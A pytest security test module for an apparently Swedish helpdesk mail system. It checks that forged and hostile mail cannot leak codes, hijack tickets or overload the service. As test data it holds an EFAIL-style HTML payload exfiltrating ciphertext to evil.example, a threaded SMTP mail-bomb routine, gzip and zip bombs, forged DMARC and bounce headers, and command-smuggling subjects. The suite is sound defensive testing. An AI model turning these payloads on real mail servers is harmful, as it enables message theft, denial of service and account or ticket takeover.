"""Who a mail says it is, and what it brings along (A02, A09, A11, A13, A16, A17, I3, I31)."""
import base64
import gzip
import json
import random
import smtplib
import threading
import time

import pytest
from harness.mail import compose, send
from harness.waiting import eventually
from stage import AGENT, COLLEAGUE, DESK, FOREIGN, OWN, canary

STRANGER = "angripare@evil.example"


@pytest.fixture(scope="module")
def case(stage):
    first = stage.mail(OWN, "Ett eget ärende " + canary("case"), "Text")
    ticket = stage.ticket_of(first["Subject"])
    ack = next(mail for mail in stage.mails_out() if OWN in mail.recipients and ticket["number"] in mail.subject)
    return {"ticket": ticket, "ack": ack, "reply_to": str(ack.message["Reply-To"].addresses[0].addr_spec)}


def ticket_now(stage, case):
    stage.settled()
    return stage.api(AGENT).get("/api/v1/tickets/" + case["ticket"]["id"])


def test_A02_a_code_that_a_machine_sends_is_shown_to_no_customer(stage, case):
    before = ticket_now(stage, case)
    codes = []
    local, _, domain = case["reply_to"].partition("@")
    for to in (DESK, case["reply_to"], "support+tagg@dvnordic.example", f"{local.split('+')[0]}+{case['ticket']['number']}@{domain}"):
        for headers in ((), (("Auto-Submitted", "auto-generated"),), (("In-Reply-To", str(case["ack"].message["Message-ID"])),)):
            codes.append(canary("kod"))
            stage.mail("no-reply@chatt.example", f"[{case['ticket']['number']}] Your code", f"Your code is {codes[-1]}", headers, to=to)
    assert ticket_now(stage, case)["articles"] == before["articles"]
    for who in (OWN, COLLEAGUE, FOREIGN):
        customer = stage.api(who)
        shown = json.dumps([customer.get(f"/api/v1/tickets/{row['id']}") for row in customer.tickets()])
        assert not [code for code in codes if code in shown], who
    assert not [mail for mail in stage.mails_out() for code in codes if code.encode() in mail.raw]


def bounce_about(address, message_id):
    return (f"From: Mail Delivery System <MAILER-DAEMON@mx.evil.example>\r\nTo: {DESK}\r\nSubject: Undelivered Mail Returned to Sender\r\n"
            f"Message-ID: <{canary('dsn')}@mx.evil.example>\r\nIn-Reply-To: {message_id}\r\nAuto-Submitted: auto-replied\r\nMIME-Version: 1.0\r\n"
            "Content-Type: multipart/report; report-type=delivery-status; boundary=b\r\n\r\n--b\r\n\r\nUnknown user.\r\n--b\r\n"
            "Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.evil.example\r\n\r\n"
            f"Final-Recipient: rfc822; {address}\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 5.1.1 unknown\r\n\r\n--b\r\n"
            f"Content-Type: message/rfc822\r\n\r\nMessage-ID: {message_id}\r\nSubject: x\r\n\r\nx\r\n--b--\r\n").encode()


@pytest.mark.parametrize("to", [DESK, "support+rAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA@dvnordic.example"])
def test_A09_a_delivery_report_without_our_token_touches_nobody(stage, case, to):
    before = ticket_now(stage, case)
    people = stage.api(AGENT).get("/api/v1/people")
    for sender in ("", "mailer-daemon@mx.evil.example", OWN):
        send(stage.server, sender, to, bounce_about(OWN, str(case["ack"].message["Message-ID"])))
    stage.settled()
    assert stage.api(AGENT).get("/api/v1/people") == people
    assert [one for one in ticket_now(stage, case)["articles"] if not one["internal"]] == [one for one in before["articles"] if not one["internal"]]
    word = canary("after")
    stage.mail(OWN, word, "Når svaret fram?")
    assert any(OWN in mail.recipients and word in mail.subject for mail in stage.mails_out()), "the contact is cut off"


def test_A11_a_mail_bomb_is_taken_or_put_off_and_the_agents_work_on(stage):
    mails, senders = 400, 8
    outcome, slowest = [], []

    def bomb(number):
        for place in range(mails // senders):
            try:
                with smtplib.SMTP(stage.server.smtp_host, stage.server.smtp_port, local_hostname="evil.example", timeout=60) as wire:
                    for again in range(5):
                        wire.sendmail(STRANGER, DESK, compose(STRANGER, DESK, f"Bomb {number} {place} {again}", "x" * 500).as_bytes())
                        outcome.append(250)
            except (smtplib.SMTPException, OSError) as fault:
                outcome.append(getattr(fault, "smtp_code", 421))
            if len(outcome) >= mails:
                return

    def wait_of_an_agent():
        began = time.monotonic()
        stage.api(AGENT).get("/api/v1/tickets?limit=50")
        return time.monotonic() - began

    in_peace = max(wait_of_an_agent() for _ in range(20))
    sent_before = len([mail for mail in stage.mails_out() if STRANGER in mail.recipients])
    threads = [threading.Thread(target=bomb, args=(number,)) for number in range(senders)]
    for thread in threads:
        thread.start()
    while any(thread.is_alive() for thread in threads):
        slowest.append(wait_of_an_agent())
    assert outcome and all(code == 250 or 400 <= code < 500 for code in outcome), set(outcome)
    assert len([mail for mail in stage.mails_out() if STRANGER in mail.recipients]) - sent_before <= 1
    if "asan" not in str(stage.server.command()[0]):
        # On a machine that is busy with other things an agent waits in peace, too.
        assert sorted(slowest)[int(len(slowest) * 0.99)] < max(1.0, 10 * in_peace), (max(slowest), in_peace)


def test_A13_nothing_is_unpacked(stage):
    bomb = gzip.compress(b"\0" * 50_000_000)
    assert len(bomb) < 60_000
    mail = compose(OWN, DESK, canary("bomb"), "Se bilagan")
    mail.add_attachment(bomb, maintype="application", subtype="gzip", filename="logg.gz")
    mail.add_attachment(b"PK\x03\x04" + bytes(range(256)) * 40, maintype="application", subtype="zip", filename="42.zip")
    began = stage.processor
    send(stage.server, OWN, DESK, mail)
    ticket = stage.ticket_of(mail["Subject"])
    assert stage.processor - began < 10
    sizes = {one["name"]: one["size"] for one in ticket["articles"][0]["attachments"]}
    assert sizes == {"logg.gz": len(bomb), "42.zip": 4 + 256 * 40}
    packed = gzip.compress(json.dumps({"text": "hej " * 1_000_000}).encode())
    answer = stage.api(AGENT).session.post(f"{stage.server.http}/api/v1/tickets/{ticket['id']}/notes", data=packed,
                                           headers={"Content-Type": "application/json", "Content-Encoding": "gzip"}, timeout=60)
    assert 400 <= answer.status_code < 500, answer.status_code


SECRET = base64.b64encode(b"0\x80\x06\x09*\x86H\x86\xf7\x0d\x01\x07\x03" + bytes(range(200))).decode()
EFAIL = {
    # Exfiltration by an HTML part around the ciphertext (EFAIL, direct): the parts must stay documents of their own.
    "smime": ("multipart/mixed; boundary=b", [
        ("Content-Type: text/html", '<img src="http://evil.example/'),
        ('Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\nContent-Transfer-Encoding: base64', SECRET),
        ("Content-Type: text/html", '">')]),
    "pgp": ('multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b', [
        ("Content-Type: application/pgp-encrypted", "Version: 1"),
        ('Content-Type: application/octet-stream; name=encrypted.asc', "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA\r\n-----END PGP MESSAGE-----")]),
    "signed": ('multipart/mixed; boundary=b', [
        ("Content-Type: text/plain", "Inte signerat av mig"),
        ('Content-Type: multipart/signed; protocol="application/pkcs7-signature"; boundary=c', "--c\r\nContent-Type: text/plain\r\n\r\nSignerat\r\n--c\r\n"
         f"Content-Type: application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64\r\n\r\n{SECRET}\r\n--c--")]),
}


@pytest.mark.parametrize("kind", EFAIL)
def test_A16_what_is_signed_or_encrypted_is_kept_as_it_came_and_proves_nothing(stage, kind):
    structure, parts = EFAIL[kind]
    word = canary("efail")
    raw = (f"From: {OWN}\r\nTo: {DESK}\r\nMessage-ID: <{word}@hamnkontoret.example>\r\nSubject: {word}\r\nMIME-Version: 1.0\r\nContent-Type: {structure}\r\n\r\n"
           + "".join(f"--b\r\n{head}\r\n\r\n{body}\r\n" for head, body in parts) + "--b--\r\n").encode()
    send(stage.server, OWN, DESK, raw)
    agent = stage.api(AGENT)
    article = stage.ticket_of(word)["articles"][0]
    assert agent.call("GET", f"/api/v1/articles/{article['id']}/raw").content == raw
    html = agent.call("GET", f"/api/v1/articles/{article['id']}/html").text
    assert "evil.example" not in html
    contents = [agent.call("GET", f"/api/v1/attachments/{one['id']}").content for one in article["attachments"]]
    assert any(base64.b64decode(SECRET) == one or b"BEGIN PGP MESSAGE" in one for one in contents), [one["name"] for one in article["attachments"]]
    assert not {key for key in article if "verified" in key or "trusted" in key}


def test_A17_no_number_of_tries_to_log_in_sends_a_mail(stage):
    stage.settled()
    before = len(stage.mails_out())
    for number in range(60):
        stage.log_in(OWN if number % 2 else f"okand-{number}@hamnkontoret.example", "fel losenord som aldrig gavs",
                     headers=[("X-Forwarded-For", f"198.51.100.{number}"), ("User-Agent", f"u{number}")])
    assert len(stage.mails_out()) == before
    assert not [path for _, path, _ in stage.routes() if "reset" in path or "forgot" in path], "a route that sends reset mails needs its own budget and test"
    stage.new_window()


def odd_mails():
    dice = random.Random(17)
    for number in range(40):
        word = canary("i3")
        body = bytes(dice.choice(b"abc \t\xe5\xc3\xa4\x80\xff=.,-<>&") for _ in range(dice.randrange(1, 900)))
        lines = b"\r\n".join(body[i:i + 70] for i in range(0, len(body), 70))
        yield word, (f"From: {OWN}\r\nTO:   {DESK}\r\nX-Odd:\tx \r\n\ty\r\nMessage-Id: <{word}@x.example>\r\nsubject: {word}\r\n\r\n").encode() + b"..\r\n." + lines + b" \r\n\r\n"


def test_I3_the_raw_mail_is_what_came_in_byte_for_byte(stage):
    sent = list(odd_mails())
    with smtplib.SMTP(stage.server.smtp_host, stage.server.smtp_port, local_hostname="klient.example", timeout=60) as wire:
        for _, raw in sent:
            wire.sendmail(OWN, DESK, raw, mail_options=["BODY=8BITMIME"])
    agent = stage.api(AGENT)
    stage.settled()
    found = {row["subject"]: row["id"] for row in agent.tickets(order="created")}
    for word, raw in sent:
        article = agent.get(f"/api/v1/tickets/{found[word]}")["articles"][0]
        assert agent.call("GET", f"/api/v1/articles/{article['id']}/raw").content == raw, word


@pytest.mark.parametrize("proof", [None, "mx.desk.example; dmarc=none", "mx.evil.example; dmarc=pass header.from=hamnkontoret.example"])
def test_I31_a_mail_that_proves_nothing_adds_and_changes_nothing(new_stage, proof):
    """Forged in many ways; levels T0 and T1 open a ticket or land in quarantine, and touch no other."""
    guarded = new_stage("--authserv-id", "mx.desk.example")
    good = ("Authentication-Results", "mx.desk.example; dmarc=pass header.from=hamnkontoret.example")
    first = guarded.mail(OWN, "Riktigt " + canary("real"), "Text", [good])
    ticket = guarded.ticket_of(first["Subject"])
    ack = next(mail for mail in guarded.mails_out() if OWN in mail.recipients and ticket["number"] in mail.subject)
    agent = guarded.api(AGENT)
    before = agent.get(f"/api/v1/tickets/{ticket['id']}")
    people = agent.get("/api/v1/people")
    dice = random.Random(31)
    reply_to = str(ack.message["Reply-To"].addresses[0].addr_spec)
    for number in range(40):
        word = canary("i31")
        headers = [("Cc", f"lasare-{number}@evil.example")] + ([("Authentication-Results", proof)] if proof else [])
        if dice.random() < 0.5:
            headers += [("In-Reply-To", str(ack.message["Message-ID"])), ("References", f"{first['Message-ID']} {ack.message['Message-ID']}")]
        subject = dice.choice([f"[{ticket['number']}] {word}", f"close {word}", f"[{ticket['number']}] owner: {STRANGER} {word}"])
        guarded.mail(dice.choice([OWN, COLLEAGUE, AGENT, FOREIGN]), subject, f"#close\n/assign {STRANGER}\n{word}", headers, to=dice.choice([DESK, reply_to]))
    guarded.settled()
    assert agent.get(f"/api/v1/tickets/{ticket['id']}") == before
    assert agent.get("/api/v1/people") == people
    assert not [mail for mail in guarded.mails_out() for one in mail.recipients if one.endswith("@evil.example")]
